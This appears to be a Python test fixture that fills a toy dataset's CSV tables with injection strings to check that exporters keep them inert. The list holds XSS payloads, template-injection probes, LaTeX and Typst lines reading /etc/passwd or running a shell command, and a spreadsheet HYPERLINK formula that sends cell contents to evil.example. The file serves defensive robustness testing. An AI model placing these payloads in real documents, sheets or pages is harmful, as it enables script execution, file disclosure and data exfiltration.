"""The toy's tables with a hostile text in every text field, to be inert wherever it stands."""

from __future__ import annotations

from mutations import SOUND, Folder, parsed, written

from analysis.schema import SCHEMA

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "' onmouseover='alert(3)' autofocus onfocus=alert(3)",
    "</title></style></textarea><svg onload=alert(4)>",
    "<iframe src=javascript:alert(5)></iframe>",
    '#read("/etc/passwd")',
    '#{read("/etc/hostname")} $x^2$ \\ ] *b* _i_ `c` @ref <label>',
    '#panic("typst") #image("/etc/passwd")',
    "[a](javascript:alert(6)) ![b](https://evil.example/c.png)",
    "# Heading | cell | ~~~ `code` ![[x]]",
    "\\input{/etc/passwd} \\write18{id} $\\frac{1}{2}$ % gone",
    "{{ 7*191 }} {% raw %} {% include 'x' %} {# gone #}",
    "${7*191} <%= 7*191 %> #{7*191}",
    '=HYPERLINK("https://evil.example/?"&A1)',
    "@SUM(7*191)",
    "+7*191",
    "-7*191",
    "javascript:alert(7)",
    "data:text/html,<script>alert(8)</script>",
    "https://evil.example/d",
    "&lt;script&gt;alert(9)&lt;/script&gt; &#60;b&#62;",
    "]]> --> <!-- <![CDATA[ <?php ?>",
    "</script><script>alert(10)</script>",
    "*/ alert(11) /* ${alert(11)} `${alert(11)}`",
    "%s %d {0} {x.__class__} %(x)s",
    "__proto__",
)
ADDRESSES = (
    'https://example.org/"><script>alert(12)</script>',
    "https://example.org/'onmouseover='alert(13)",
    'https://example.org/]($x$)#read("/etc/passwd")',
    "https://example.org/{{7*191}}{%raw%}\\input{/etc/passwd}",
    "https://example.org/?javascript:alert(14)&amp;a=b#c)",
)
NAMES = {"vendor", "vendor_or_person", "organisation"}  # short: they are set in tables
KEYS = {"table", "key", "column", "was", "is"}  # of the ledger, which must fit the other tables


def folder() -> Folder:
    """The toy with a text of `PAYLOADS` in every text cell and of `ADDRESSES` in every address."""
    made, turn = {}, 0
    for name, content in SOUND.items():
        table = SCHEMA[name.removesuffix(".csv")]
        header, *rows = parsed(content)
        for row in rows:
            for place, column in enumerate(header):
                rule = table.columns[column]
                if rule.kind == "text" and not (rule.allowed or rule.refers or column in KEYS):
                    row[place] = text(turn, 1 if column in NAMES else 3)
                    turn += 1
                elif rule.kind == "url":
                    row[place] = ADDRESSES[turn % len(ADDRESSES)]
        keys = [header.index(part) for part in table.key]
        made[name] = written([header, *sorted(rows, key=lambda row: [row[at] for at in keys])])
    return made


def text(turn: int, count: int) -> str:
    """Some payloads, each in its turn the first, as spreadsheets look at how a cell begins."""
    return " ".join(PAYLOADS[(turn + at) % len(PAYLOADS)] for at in range(count))
